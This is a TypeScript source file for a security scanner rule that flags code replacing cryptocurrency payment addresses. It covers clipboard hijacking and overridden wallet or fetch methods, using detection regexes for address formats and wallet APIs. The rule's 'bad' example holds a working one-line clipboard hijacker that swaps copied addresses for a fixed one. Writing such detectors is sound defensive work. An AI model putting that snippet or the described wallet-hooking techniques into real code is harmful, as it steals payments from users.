import { memberWrites } from '../facts/member-writes.ts';
import type { Severity } from '../finding.ts';
import { defineRule, type RuleContext } from '../rule.ts';
import { methodName } from '../syntax/method-name.ts';

/** Patterns that recognise an address to pay to. */
const RECOGNISES =
  /0x\[(?:a-f|A-F|0-9)[^\]]*\]\{40\}|\[13\]\[a-km-z|bc1[^\n]{0,20}\[|\(\?:?bc1|\bbc1\|\|?|\bT\[A-Z|4\[0-9AB\]|\[LM3\]\[a-km-z|\[1-9A-HJ-NP-Za-km-z\]\{3\d/;
/** Addresses to pay to, written out. */
const ADDRESS =
  /^(?:0x[0-9a-fA-F]{40}|bc1[a-z0-9]{25,60}|[13][a-km-zA-HJ-NP-Z1-9]{25,34}|T[1-9A-HJ-NP-Za-km-z]{33}|4[0-9AB][1-9A-HJ-NP-Za-km-z]{93}|[LM][a-km-zA-HJ-NP-Z1-9]{26,33}|[1-9A-HJ-NP-Za-km-z]{43,44})$/;
const SWAPS =
  /clipboardData|clipboard\.writeText|\.replace(?:All)?\(|XMLHttpRequest|ethereum|\bfetch\s*=|solana|sendTransaction|addEventListener\(\s*['"](?:copy|paste|cut)/;

/** Functions of the page that requests and payments pass through. */
const CARRIES = /^(?:fetch|ethereum\.\w+|solana\.\w+|XMLHttpRequest(?:\.prototype\.\w+)?)$/;

/** Wallets that live in a page, and what they are asked for when somebody pays or signs. */
const WALLET = '(?:ethereum|solana|tronWeb|phantom|keplr|BinanceChain|bitkeep|okxwallet)';
const WALLETS = new RegExp(`\\b${WALLET}\\b`);
const PAYS = new RegExp(`^${WALLET}(?:\\.\\w+)?\\.(?:request|send\\w*|sign\\w*|enable|connect)$`);
const LARGE = 60_000;

export const walletSwap = defineRule({
  id: 'wallet-swap',
  severity: 'critical',
  threat: 'exfiltration',
  title: 'Addresses to pay to are replaced',
  why: 'Code that recognises the address of a wallet and puts its own in its place takes the money of whoever pays.',
  fix: 'Remove it.',
  example: {
    bad: 'document.addEventListener("copy", (event) => { if (/^0x[a-f0-9]{40}$/i.test(String(getSelection()))) event.clipboardData.setData("text/plain", "0x52908400098527886E0F7030069857D2E4169EE7"); });',
    good: 'const isWallet = (text) => /^0x[a-f0-9]{40}$/i.test(text);',
  },
  cwe: 506,
  visit: {
    text: (text, node, context) => {
      if (!isPayee(text) || !isSwapping(context)) return;
      context.report(node, {
        severity: severityIn(context),
        message: `This address is kept beside code that recognises addresses and replaces them.`,
      });
    },
    file: (context) => {
      const { file, report } = context;
      if (WALLETS.test(file.text))
        for (const { name, node, value } of memberWrites(file))
          if (name !== null && PAYS.test(name) && file.evaluator.evaluate(value).kind === 'function')
            report(node, {
              severity: file.text.length < LARGE ? 'high' : 'medium',
              message: `${name} of somebody else's wallet is replaced: whoever pays does so through this code.`,
            });
      if (
        !isSwapping(context) ||
        !file.index.strings.some(({ start, end }) => isPayee(file.text.slice(start + 1, end - 1)))
      )
        return;
      const severity = severityIn(context);
      for (const node of file.index.calls) {
        const key = methodName(node);
        const isSwap =
          key === 'setData' ||
          key === 'writeText' ||
          ((key === 'replace' || key === 'replaceAll') &&
            RECOGNISES.test(file.text.slice(node.start, Math.min(node.end, node.start + 400))));
        if (isSwap) report(node, { severity, message: 'Here one address takes the place of another.' });
      }
      for (const { name, node } of memberWrites(file))
        if (name !== null && CARRIES.test(name))
          report(node, { severity, message: `${name}, which payments pass through, is replaced.` });
    },
  },
});

function isPayee(text: string): boolean {
  // Forty-four letters are a hash as often as an address: only what is not hexadecimal counts.
  return text.length <= 110 && ADDRESS.test(text) && !/^(?:[0-9a-f]+|[a-z]+)$/i.test(text);
}

function severityIn({ file }: RuleContext): Severity {
  return file.text.length < LARGE ? 'critical' : 'medium';
}

function isSwapping({ file }: RuleContext): boolean {
  return SWAPS.test(file.text) && RECOGNISES.test(file.text);
}
